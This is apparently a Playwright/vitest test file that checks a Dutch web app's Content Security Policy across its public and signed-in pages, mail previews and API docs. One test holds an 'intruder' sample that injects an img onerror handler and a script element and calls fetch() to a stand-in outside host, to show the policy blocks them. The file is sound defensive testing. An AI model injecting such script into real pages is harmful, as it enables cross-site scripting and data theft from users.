import { mkdtemp, rm } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchChromium } from '../scripts/chromium.ts'
import { demoPassword, startServer, type RunningServer } from './server.ts'

const soon = { timeout: 15_000 }
let folder: string
let server: RunningServer
let browser: Browser

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'balie-content-policy-'))
  server = await startServer({ DATA_DIR: folder })
  browser = await launchChromium()
})
afterAll(async () => {
  await browser?.close()
  await server?.stop()
  await rm(folder, { recursive: true, force: true })
})

/** Notes in `violations` what the browser forbids the page, frames in it included. */
async function watched(): Promise<{ page: Page; violations: string[]; elsewhere: string[] }> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'nl-NL' })
  const page = await context.newPage()
  const [violations, elsewhere]: [string[], string[]] = [[], []]
  page.on('console', (message) => { if (/content.security.policy|refused to/i.test(message.text())) violations.push(`${page.url()}: ${message.text()}`) })
  page.on('request', (request) => { if (!/^(data|blob|about):/.test(request.url()) && !request.url().startsWith(`${server.url}/`)) elsewhere.push(request.url()) })
  return { page, violations, elsewhere }
}

async function signIn(page: Page): Promise<void> {
  await page.goto(server.url)
  await page.getByLabel(/^E-mailadres/).fill('administrator@demo.balie.test')
  await page.getByLabel(/^Wachtwoord/).fill(demoPassword)
  await page.getByRole('button', { name: 'Aanmelden' }).click()
  await page.getByRole('navigation').waitFor(soon)
}

test('no page before the sign-in does what the content policy forbids', async () => {
  const { page, violations, elsewhere } = await watched()
  for (const address of ['/', '/login', '/forgot-password', '/password-resets/gone?email=a%40b.test', '/two-step/gone', '/no/such/page']) {
    await page.goto(`${server.url}${address}`, { waitUntil: 'networkidle' })
  }
  expect([violations, elsewhere]).toEqual([[], []])
  await page.context().close()
})

test('nor does any page of the navigation, the preview of a mail, or the documentation', async () => {
  const { page, violations, elsewhere } = await watched()
  await signIn(page)
  const links = await page.getByRole('navigation').getByRole('link').evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
  expect(links.length).toBeGreaterThan(5)
  for (const address of [...new Set([...links, '/account', '/account/sessions'])].filter((link) => link.startsWith('/'))) {
    await page.goto(`${server.url}${address}`, { waitUntil: 'networkidle' })
    expect.soft(await page.getByRole('heading').count(), address).toBeGreaterThan(0)
  }
  // A mail is drawn in a frame, which inherits the policy of the page.
  await page.goto(`${server.url}/email-translations/1`)
  await page.frameLocator('iframe').first().locator('p').first().waitFor(soon)
  await page.goto(`${server.url}/api/docs`)
  await page.getByText('POST').first().waitFor(soon)
  expect([violations, elsewhere]).toEqual([[], []])
  await page.context().close()
})

/** What an attacker would try who could write into a page of ours. */
const intruder = `(async () => {
  const holder = document.createElement('div')
  holder.innerHTML = '<img src=x onerror="window.ran = 1">'
  document.body.append(holder)
  const script = document.createElement('script')
  script.textContent = 'window.ran = 2'
  document.body.append(script)
  const sent = await fetch('https://elsewhere.invalid/', { mode: 'no-cors' }).then(() => 'sent', () => 'held back')
  return { ran: window.ran ?? 'nothing', sent }
})()`

test('a script that got into a page does not run, and cannot send anything away', async () => {
  const { page, violations } = await watched()
  await signIn(page)
  const outcome = await page.evaluate<{ ran: unknown; sent: string }>(intruder)
  expect(outcome).toEqual({ ran: 'nothing', sent: 'held back' })
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(3) // so the two tests above would see one
  await page.context().close()
})

test('no script reads the session, and the storage holds no data of a client', async () => {
  const { page } = await watched()
  await signIn(page)
  await page.goto(`${server.url}/calendar`, { waitUntil: 'networkidle' })
  const kept = await page.evaluate<{ cookie: string; storage: string }>('({ cookie: document.cookie, storage: JSON.stringify({ ...localStorage, ...sessionStorage }) })')
  expect(kept.cookie).toBe('')
  expect(kept.storage).not.toMatch(/@|birthdate|balie=|remarks/)
  await page.context().close()
})
